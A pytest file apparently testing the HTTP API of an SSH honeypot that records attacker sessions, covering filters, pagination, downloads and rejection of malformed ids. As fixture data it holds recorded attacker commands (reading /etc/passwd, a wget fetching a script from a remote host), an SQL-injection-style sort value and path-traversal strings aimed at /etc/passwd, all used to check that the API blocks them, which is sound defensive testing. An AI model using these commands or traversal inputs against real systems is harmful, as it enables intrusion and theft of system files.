"""The /api/v1 routes on a recorded database: filters, pagination, sort, downloads, odd ids, storage errors."""

from __future__ import annotations

import io
import json
import tarfile
from collections.abc import Callable
from datetime import timedelta
from pathlib import Path
from typing import Any

import httpx
import pytest

from sandtrap.storage.repository import Repository

from apidata import (
    B_COMMAND,
    CAST_TEXT,
    IP_B,
    SHA_CHANGED,
    SHA_UPLOAD,
    T0,
    UPLOAD,
    A,
    B,
    C,
    Recorded,
    app_of,
)

Client = Callable[..., httpx.AsyncClient]


async def ids(c: httpx.AsyncClient, **params: Any) -> list[str]:
    r = await c.get("/api/v1/sessions", params=params)
    assert r.status_code == 200, r.text
    return [s["id"] for s in r.json()["items"]]


# -- listing -------------------------------------------------------------------------------------------------
async def test_sessions_newest_first_with_total_and_pages(client: Client) -> None:
    c = client()
    r = await c.get("/api/v1/sessions")
    body = r.json()
    assert r.status_code == 200 and r.headers["content-type"] == "application/json"
    assert [s["id"] for s in body["items"]] == [C, B, A]
    assert (body["total"], body["limit"], body["offset"], body["sort"], body["next_offset"]) == (
        3,
        50,
        0,
        "-started_at",
        None,
    )
    first = (await c.get("/api/v1/sessions", params={"limit": 2})).json()
    assert [s["id"] for s in first["items"]] == [C, B] and first["next_offset"] == 2 and first["total"] == 3
    second = (await c.get("/api/v1/sessions", params={"limit": 2, "offset": 2})).json()
    assert [s["id"] for s in second["items"]] == [A] and second["next_offset"] is None
    assert await ids(c, offset=10) == []


@pytest.mark.parametrize(
    ("params", "expected"),
    [
        ({"since": (T0 + timedelta(minutes=30)).isoformat()}, [C, B]),
        ({"until": (T0 + timedelta(minutes=30)).isoformat()}, [A]),
        ({"since": "2026-01-02T03:30:00", "until": "2026-01-02T04:30:00"}, [B]),  # naive: UTC
        ({"since": "2026-01-02T05:30:00+02:00"}, [C, B]),
        ({"src_ip": IP_B}, [B]),
        ({"src_ip": "192.0.2.99"}, []),
        ({"username": "admin"}, [B, A]),
        ({"username": "oracle"}, []),  # C never logged in
        ({"command": "PASSWD"}, [A]),  # case-insensitive substring
        ({"command": "%_"}, [B]),  # LIKE wildcards are literal
        ({"command": "<b>hi"}, [B]),
        ({"has_commands": "true"}, [B, A]),
        ({"has_commands": "false"}, [C]),
        ({"has_artifacts": "true"}, [A]),
        ({"has_artifacts": "false"}, [C, B]),
        ({"username": "admin", "has_artifacts": "false"}, [B]),
    ],
)
async def test_session_filters(client: Client, params: dict[str, str], expected: list[str]) -> None:
    c = client()
    assert await ids(c, **params) == expected
    r = await c.get("/api/v1/sessions", params=params)
    assert r.json()["total"] == len(expected)


@pytest.mark.parametrize(
    ("sort", "expected"),
    [
        ("started_at", [A, B, C]),
        ("-started_at", [C, B, A]),
        ("duration_ms", [B, A, C]),  # open sessions (no duration) last
        ("-duration_ms", [A, B, C]),
        ("commands_count", [C, B, A]),
        ("-commands_count", [A, B, C]),
        ("src_ip", [B, C, A]),
        ("-src_ip", [A, C, B]),
    ],
)
async def test_session_sort(client: Client, sort: str, expected: list[str]) -> None:
    assert await ids(client(), sort=sort) == expected


@pytest.mark.parametrize(
    "params",
    [
        {"sort": "password"},
        {"sort": "started_at; DROP TABLE sessions"},
        {"limit": 0},
        {"limit": 1001},
        {"offset": -1},
        {"offset": 10**12},
        {"since": "yesterday"},
        {"since": "0001-01-01T00:00:00+05:00"},  # out of range once in UTC
        {"until": "9999-12-31T23:59:59-05:00"},
        {"has_artifacts": "maybe"},
        {"username": "x" * 2000},
    ],
)
async def test_bad_list_parameters_are_422(client: Client, params: dict[str, Any]) -> None:
    r = await client().get("/api/v1/sessions", params=params)
    assert r.status_code == 422, r.text
    assert isinstance(r.json()["detail"], list)


# -- one session -----------------------------------------------------------------------------------------------
async def test_session_detail_has_client_auth_commands_artifacts_and_sandbox(client: Client) -> None:
    r = await client().get(f"/api/v1/sessions/{A}")
    assert r.status_code == 200
    d = r.json()
    assert d["id"] == A and d["is_live"] is False
    assert d["client_version"] == "SSH-2.0-OpenSSH_8.9p1 Ubuntu-3ubuntu0.6"
    assert d["hassh"] == "ec7378c1a92f5a8dde7e8b7a1ddf33d1"
    assert [(a["username"], a["success"]) for a in d["auth_attempts"]] == [
        ("root", False),
        ("root", False),
        ("admin", True),
    ]
    assert [c["input"] for c in d["commands"]] == ["uname -a", "cat /etc/passwd", "wget http://198.51.100.9/x.sh"]
    assert {(a["sha256"], a["stored"]) for a in d["artifacts"]} == {(SHA_UPLOAD, True), (SHA_CHANGED, False)}
    assert d["sandbox_id"] == "c0ffee123456"
    assert d["sandbox"]["state"] == "released"
    assert d["casts"][0]["channel"] == 0


async def test_attacker_strings_come_back_as_json_strings(client: Client) -> None:
    c = client()
    d = (await c.get(f"/api/v1/sessions/{C}")).json()
    assert [a["username"] for a in d["auth_attempts"]] == ["oracle", "oracle\ufffd"]
    assert d["auth_attempts"][1]["password"] == "\u202e<img>"
    b = await c.get(f"/api/v1/sessions/{B}")
    assert b.headers["content-type"] == "application/json"
    assert b.json()["commands"][0]["input"] == B_COMMAND


async def test_events_in_order_filtered_and_paged(client: Client) -> None:
    c = client()
    body = (await c.get(f"/api/v1/sessions/{A}/events")).json()
    eventids = [e["eventid"] for e in body["items"]]
    assert eventids[0] == "cowrie.session.connect" and eventids[-1] == "sandtrap.sandbox.released"
    assert body["items"][0]["data"]["src_ip"] == "203.0.113.7" and body["next_offset"] is None
    only = (await c.get(f"/api/v1/sessions/{A}/events", params={"eventid": "cowrie.command.input"})).json()
    assert [e["data"]["input"] for e in only["items"]] == [
        "uname -a",
        "cat /etc/passwd",
        "wget http://198.51.100.9/x.sh",
    ]
    page = (await c.get(f"/api/v1/sessions/{A}/events", params={"limit": 2, "offset": 1})).json()
    assert [e["eventid"] for e in page["items"]] == eventids[1:3] and page["next_offset"] == 3
    # A known session past its last event: an empty page; an unknown session: 404.
    past = await c.get(f"/api/v1/sessions/{A}/events", params={"offset": 1000})
    assert past.status_code == 200 and past.json()["items"] == []
    assert (await c.get("/api/v1/sessions/ffffffffffff/events")).status_code == 404


async def test_cast_download(client: Client, recorded: Recorded) -> None:
    c = client()
    r = await c.get(f"/api/v1/sessions/{A}/cast")
    assert r.status_code == 200 and r.text == CAST_TEXT
    assert r.headers["content-type"] == "application/x-asciicast"
    assert r.headers["content-disposition"] == f'attachment; filename="{A}-0.cast"'
    assert r.headers["x-content-type-options"] == "nosniff"
    assert (await c.get(f"/api/v1/sessions/{A}/cast", params={"channel": 0})).text == CAST_TEXT
    assert (await c.get(f"/api/v1/sessions/{A}/cast", params={"channel": 1})).status_code == 404
    assert (await c.get(f"/api/v1/sessions/{B}/cast")).status_code == 404  # no recording
    assert (await c.get("/api/v1/sessions/ffffffffffff/cast")).status_code == 404


async def test_cast_outside_the_data_dir_is_never_served(client: Client, recorded: Recorded, tmp_path: Path) -> None:
    """A cast row whose path escapes the data dir (a symlink or '..') is treated as missing."""
    secret = tmp_path / "secret.txt"
    secret.write_text("not for the API")
    cast = recorded.data_dir / "casts" / f"{A}-0.cast"
    cast.unlink()
    cast.symlink_to(secret)
    assert (await client().get(f"/api/v1/sessions/{A}/cast")).status_code == 404


async def test_export_is_a_tar_gz_with_metadata_events_cast_and_artifact(client: Client) -> None:
    r = await client().get(f"/api/v1/sessions/{A}/export")
    assert r.status_code == 200 and r.headers["content-type"] == "application/gzip"
    assert r.headers["content-disposition"] == f'attachment; filename="session-{A}.tar.gz"'
    with tarfile.open(fileobj=io.BytesIO(r.content), mode="r:gz") as tar:
        names = tar.getnames()
        top = f"session-{A}"
        assert set(names) == {
            f"{top}/metadata.json",
            f"{top}/events.jsonl",
            f"{top}/casts/{A}-0.cast",
            f"{top}/artifacts/{SHA_UPLOAD}",
        }
        member = tar.getmember(f"{top}/artifacts/{SHA_UPLOAD}")
        assert member.mode == 0o440 and member.isfile()
        assert tar.extractfile(member).read() == UPLOAD  # type: ignore[union-attr]
        metadata = json.loads(tar.extractfile(f"{top}/metadata.json").read())  # type: ignore[union-attr]
        assert metadata["id"] == A
        lines = tar.extractfile(f"{top}/events.jsonl").read().splitlines()  # type: ignore[union-attr]
        assert json.loads(lines[0])["eventid"] == "cowrie.session.connect"
    assert (await client().get("/api/v1/sessions/ffffffffffff/export")).status_code == 404


# -- artifacts -------------------------------------------------------------------------------------------------
async def test_artifact_is_an_attachment_never_inline(client: Client) -> None:
    r = await client().get(f"/api/v1/artifacts/{SHA_UPLOAD}")
    assert r.status_code == 200 and r.content == UPLOAD
    assert r.headers["content-type"] == "application/octet-stream"
    assert r.headers["content-disposition"] == f'attachment; filename="{SHA_UPLOAD}.bin"'
    assert r.headers["x-content-type-options"] == "nosniff"
    assert "sandbox" in r.headers["content-security-policy"]
    assert r.headers["content-length"] == str(len(UPLOAD))
    assert (await client().get(f"/api/v1/artifacts/{SHA_CHANGED}")).status_code == 404  # metadata only


ODD_SESSION_IDS = [
    "0123456789AB",  # uppercase
    "0123456789abc",  # 13 hex
    "0123456789a",  # 11 hex
    "0123456789ag",
    "０１２３４５６７８９ab",  # fullwidth digits
    "0123456789a\u0301",
    "a" * 5000,
    "..",
    "...",
    "0123456789ab ",
    "0123456789ab%0a",
    "0123456789ab%00",
    "%2e%2e%2fetc%2fpasswd",
    "..%2f..%2fetc%2fpasswd",
    "%c0%ae%c0%ae",
]


@pytest.mark.parametrize("odd", ODD_SESSION_IDS)
@pytest.mark.parametrize("suffix", ["", "/events", "/cast", "/export", "/live"])
async def test_odd_session_ids_are_404_or_422(client: Client, odd: str, suffix: str) -> None:
    r = await client().get(f"/api/v1/sessions/{odd}{suffix}")
    assert r.status_code in (404, 422), (odd, r.status_code, r.text[:200])


@pytest.mark.parametrize(
    "odd",
    [
        SHA_UPLOAD.upper(),
        SHA_UPLOAD[:63],
        SHA_UPLOAD + "a",
        "../../etc/passwd",
        "..%2f..%2fetc%2fpasswd",
        "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
        f"{SHA_UPLOAD[:2]}%2f{SHA_UPLOAD}",
        f"..%2fartifacts%2f{SHA_UPLOAD[:2]}%2f{SHA_UPLOAD}",
        "ａ" * 64,
        "a" * 10000,
    ],
)
async def test_odd_artifact_ids_are_404_or_422(client: Client, odd: str) -> None:
    r = await client().get(f"/api/v1/artifacts/{odd}")
    assert r.status_code in (404, 422), (odd, r.status_code)
    assert r.content != UPLOAD


@pytest.mark.parametrize(
    "raw_path",
    [
        b"/api/v1/artifacts/../../../../etc/passwd",
        b"/api/v1/artifacts/%2e%2e%2f%2e%2e%2fetc%2fpasswd",
        b"/api/v1/artifacts/..%2f..%2f..%2f..%2fetc%2fpasswd",
        b"/api/v1/sessions/../../../etc/passwd/cast",
        b"/api/v1/sessions/%2e%2e%2f%2e%2e%2fetc%2fpasswd/export",
    ],
)
async def test_raw_traversal_paths_never_reach_a_file(client: Client, raw_path: bytes) -> None:
    """Sent as is, without the client resolving the dots first."""
    app = app_of(client())
    messages: list[dict[str, Any]] = []
    path = raw_path.decode()
    from urllib.parse import unquote

    scope = {
        "type": "http",
        "asgi": {"version": "3.0"},
        "http_version": "1.1",
        "method": "GET",
        "scheme": "http",
        "path": unquote(path),
        "raw_path": raw_path,
        "query_string": b"",
        "headers": [(b"host", b"testserver")],
        "server": ("testserver", 80),
        "client": ("127.0.0.1", 1234),
        "root_path": "",
    }

    async def receive() -> dict[str, Any]:
        return {"type": "http.request", "body": b"", "more_body": False}

    async def send(message: dict[str, Any]) -> None:
        messages.append(message)

    await app(scope, receive, send)
    status = messages[0]["status"]
    body = b"".join(m.get("body", b"") for m in messages[1:])
    assert status in (404, 422), (raw_path, status)
    assert b"root:" not in body


# -- statistics ------------------------------------------------------------------------------------------------
async def test_stats(client: Client) -> None:
    c = client()
    s = (await c.get("/api/v1/stats")).json()
    assert (s["sessions"], s["commands"]) == (3, 4)
    assert s["top_usernames"][:2] == [{"value": "admin", "count": 2}, {"value": "root", "count": 2}]  # ties by value
    assert {"username": "admin", "password": "admin", "count": 2} in s["top_pairs"]
    assert {p["value"] for p in s["top_passwords"]} >= {"admin", "123456", "oracle"}
    assert {x["value"] for x in s["top_src_ips"]} == {"203.0.113.7", IP_B, "198.51.100.30"}
    assert {x["value"] for x in s["top_client_versions"]} == {"SSH-2.0-OpenSSH_8.9p1 Ubuntu-3ubuntu0.6", "SSH-2.0-Go"}
    assert {x["value"] for x in s["top_commands"]} >= {"uname -a", B_COMMAND}
    assert [h["count"] for h in s["sessions_per_hour"]] == [1, 1, 1]
    top1 = (await c.get("/api/v1/stats", params={"top": 1})).json()
    assert len(top1["top_usernames"]) == 1
    later = (await c.get("/api/v1/stats", params={"since": (T0 + timedelta(minutes=30)).isoformat()})).json()
    assert later["sessions"] == 2
    window = (await c.get("/api/v1/stats", params={"until": (T0 + timedelta(minutes=30)).isoformat()})).json()
    assert window["sessions"] == 1
    assert len((await c.get("/api/v1/stats", params={"hours": 1})).json()["sessions_per_hour"]) == 1
    assert (await c.get("/api/v1/stats", params={"top": 0})).status_code == 422


# -- errors ------------------------------------------------------------------------------------------------------
async def test_storage_errors_are_503_with_a_short_message(client: Client, tmp_path: Path) -> None:
    """A database without our tables: every read fails; the API says so without a traceback."""
    broken = Repository(f"sqlite:///{tmp_path / 'empty.db'}")
    try:
        c = client(repository=broken)
        for path in ("/api/v1/sessions", f"/api/v1/sessions/{A}", f"/api/v1/sessions/{A}/events", "/api/v1/stats"):
            r = await c.get(path)
            assert r.status_code == 503, (path, r.text)
            assert r.json() == {"detail": "the database is unavailable; see the sandtrap log"}
        status = (await c.get("/api/v1/status")).json()
        assert status["storage"]["ok"] is False and "no such table" in status["storage"]["error"]
    finally:
        broken.close()


async def test_unknown_paths_are_404_json(client: Client) -> None:
    r = await client().get("/api/v1/nothing-here")
    assert r.status_code == 404 and r.json() == {"detail": "Not Found"}
